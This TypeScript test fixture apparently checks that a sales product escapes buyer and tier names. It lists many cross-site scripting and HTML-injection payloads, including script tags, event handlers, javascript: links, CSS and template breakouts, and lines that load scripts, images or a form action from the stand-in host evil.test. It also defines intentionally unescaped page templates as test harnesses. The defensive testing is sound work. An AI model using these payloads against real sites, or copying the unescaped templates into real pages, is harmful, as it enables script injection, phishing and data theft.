/** Where text would have to stand unescaped to do harm. */
export type Place = keyof typeof places;

/** What a payload does there, as the watch reports it. */
export type Harm = 'script' | 'request' | 'navigation' | 'markup' | 'words';

export interface Payload {
  readonly text: string;
  readonly place: Place;
  readonly harm: Harm;
}

/** Pages that put text where it stands without escaping it. The product has none such. */
export const places = {
  text: (text: string) => `<p>${text}</p>`,
  double: (text: string) => `<p title="${text}">Hall</p>`,
  single: (text: string) => `<p title='${text}'>Hall</p>`,
  bare: (text: string) => `<p title=${text}>Hall</p>`,
  link: (text: string) => `<a href="${text}">Hall</a>`,
  color: (text: string) => `<p style="color:${text}">Hall</p>`,
  title: (text: string) => `<title>${text}</title>`,
  css: (text: string) => `<style>p { color: ${text} }</style><p>Hall</p>`,
  textarea: (text: string) => `<textarea>${text}</textarea>`,
  comment: (text: string) => `<!-- ${text} -->`,
  cdata: (text: string) => `<svg><desc><![CDATA[${text}]]></desc></svg>`,
  script: (text: string) => `<script>var hall = '${text}'</script>`,
  literal: (text: string) => `<script>var hall = \`${text}\`</script>`,
  /** Escaped once and decoded again, as by a template that does not trust the one before it. */
  entities: (text: string) => `<p>${text.replaceAll('&lt;', '<').replaceAll('&#62;', '>')}</p>`,
  json: (text: string) => `<p>${JSON.parse(`"${text}"`)}</p>`,
  percent: (text: string) => `<p>${decodeURIComponent(text)}</p>`,
  /** Brought to a normal form after escaping, where wide letters become ASCII. */
  normalized: (text: string) => `<p>${text.normalize('NFKC')}</p>`,
  /** Taken for a template of its own. */
  template: (text: string) => `<p>${text.replaceAll(/\{\{.*?\}\}|<%.*?%>|[#$]\{.*?\}/g, '49')}</p>`,
} as const;

const foreign = 'https://evil.test';

function payloads(place: Place, harm: Harm, texts: readonly string[]): Payload[] {
  return texts.map((text) => ({ place, harm, text }));
}

/**
 * All fit a tier's name (100 characters) and pass as a buyer's (no control characters). What runs
 * sets `__xss` or calls `alert`, with a number of its own.
 */
export const hostile: readonly Payload[] = [
  ...payloads('text', 'script', [
    '<script>alert(1)</script>',
    '<ScRiPt >__xss=2</sCrIpT >',
    '<<script>__xss=3//<</script>',
    '<img src=x onerror=alert(4)>',
    '<IMG """><SCRIPT>__xss=5</SCRIPT>">',
    '<svg onload=__xss=6>',
    '<svg/onload=__xss=7//',
    '<svg><script>__xss=8</script></svg>',
    '<svg><style><img src=x onerror=__xss=9></style></svg>',
    '<svg><animate onbegin=__xss=10 attributeName=x dur=1s>',
    '<iframe srcdoc="<script>__xss=11</script>"></iframe>',
    '<iframe srcdoc="&lt;img src=x onerror=__xss=12&gt;"></iframe>',
    '<iframe src="javascript:__xss=13"></iframe>',
    '<body onload=alert(14)>',
    '<details open ontoggle=__xss=15>seats</details>',
    '<input autofocus onfocus=__xss=16>',
    '<video src=x onerror=__xss=17></video>',
    '<style>@keyframes x{}</style><b style=animation:x onanimationstart=__xss=18>b</b>',
    '<noscript><p title="</noscript><img src=x onerror=alert(19)>">',
    '\u202e<svg/onload=__xss=20>',
    'O\u2019Hara & S\u00f6hne <img src=x:x onerror=__xss=21>',
  ]),
  ...payloads('text', 'request', [
    `<script src=${foreign}/x.js></script>`,
    `<img src="${foreign}/pixel.png">`,
    `<img srcset="${foreign}/wide.png 2x, ${foreign}/x.png">`,
    `<style>@import "${foreign}/x.css";</style>`,
    `<link rel=stylesheet href=${foreign}/x.css>`,
    `<object data="${foreign}/x"></object>`,
    `<iframe src="${foreign}"></iframe>`,
  ]),
  ...payloads('text', 'navigation', [`<meta http-equiv=refresh content="0;url=${foreign}">`]),
  ...payloads('text', 'markup', [
    `<base href="${foreign}/">`,
    `<form action="${foreign}"><button>Pay`,
    '<a href="javascript:alert(31)">You have won</a>',
    '<b>Free</b> <h1>Sold out</h1>',
  ]),
  ...payloads('text', 'words', ['</p></main></body></html><!-- the end']),
  ...payloads('double', 'script', [
    '"><script>alert(34)</script>',
    '" autofocus tabindex=0 onfocus="__xss=35',
    '\'"><svg/onload=alert(36)>',
  ]),
  ...payloads('double', 'markup', ['" onmouseover="alert(37)" style="position:fixed;inset:0']),
  ...payloads('single', 'script', [
    "' autofocus tabindex=0 onfocus='__xss=38",
    "'><img src=x onerror=alert(39)>",
  ]),
  ...payloads('bare', 'script', ['x autofocus tabindex=0 onfocus=__xss=40']),
  ...payloads('link', 'markup', ['javascript:alert(41)', 'java&#9;script:alert(42)']),
  ...payloads('color', 'request', [`red;background:url(${foreign}/x.png)`]),
  ...payloads('css', 'request', [`red} body{background:url(${foreign}/y.png)}`]),
  ...payloads('css', 'script', ['</style><script>__xss=45</script>']),
  ...payloads('title', 'script', ['</title><script>__xss=46</script>']),
  ...payloads('textarea', 'script', ['</textarea><script>__xss=47</script>']),
  ...payloads('comment', 'script', ['--><script>__xss=48</script><!--']),
  ...payloads('cdata', 'script', [']]><script>__xss=49</script>']),
  ...payloads('script', 'script', ["';__xss=50;//", '</script><script>__xss=51</script>']),
  ...payloads('literal', 'script', ['$' + '{__xss=52}']),
  ...payloads('entities', 'script', [
    '&lt;script>__xss=53&lt;/script>',
    '<img src=x onerror=alert(54)&#62;',
  ]),
  ...payloads('json', 'script', ['\\u003cscript\\u003e__xss=55\\u003c/script\\u003e']),
  ...payloads('percent', 'script', ['%3Cscript%3E__xss=56%3C/script%3E']),
  ...payloads('normalized', 'script', ['\uff1cscript\uff1e__xss=57\uff1c/script\uff1e']),
  ...payloads('template', 'words', [
    "{{constructor.constructor('__xss=58')()}}",
    '<%= 7*7 %>',
    `#{7*7} $${'{7*7}'} {{7*7}}`,
  ]),
];

/** Mails do not say what looks like a link where buyers type their names. */
export const linkLike = /:\/\/|@|www\.|\.\p{L}{2,}/iu;

/**
 * All payloads as few names, none longer than this: a sale for each payload would take minutes.
 * What looks like a link is packed apart, so that mails say the other names.
 */
export function packed(lengthMax: number): string[] {
  const texts = hostile.map(({ text }) => text);
  return [
    ...pack(
      texts.filter((text) => !linkLike.test(text)),
      lengthMax,
    ),
    ...pack(
      texts.filter((text) => linkLike.test(text)),
      lengthMax,
    ),
  ];
}

function pack(texts: readonly string[], lengthMax: number): string[] {
  const names: string[] = [];
  for (const text of texts) {
    const at = names.findIndex((name) => name.length + 1 + text.length <= lengthMax);
    names[at === -1 ? names.length : at] = at === -1 ? text : `${names[at]} ${text}`;
  }
  return names;
}
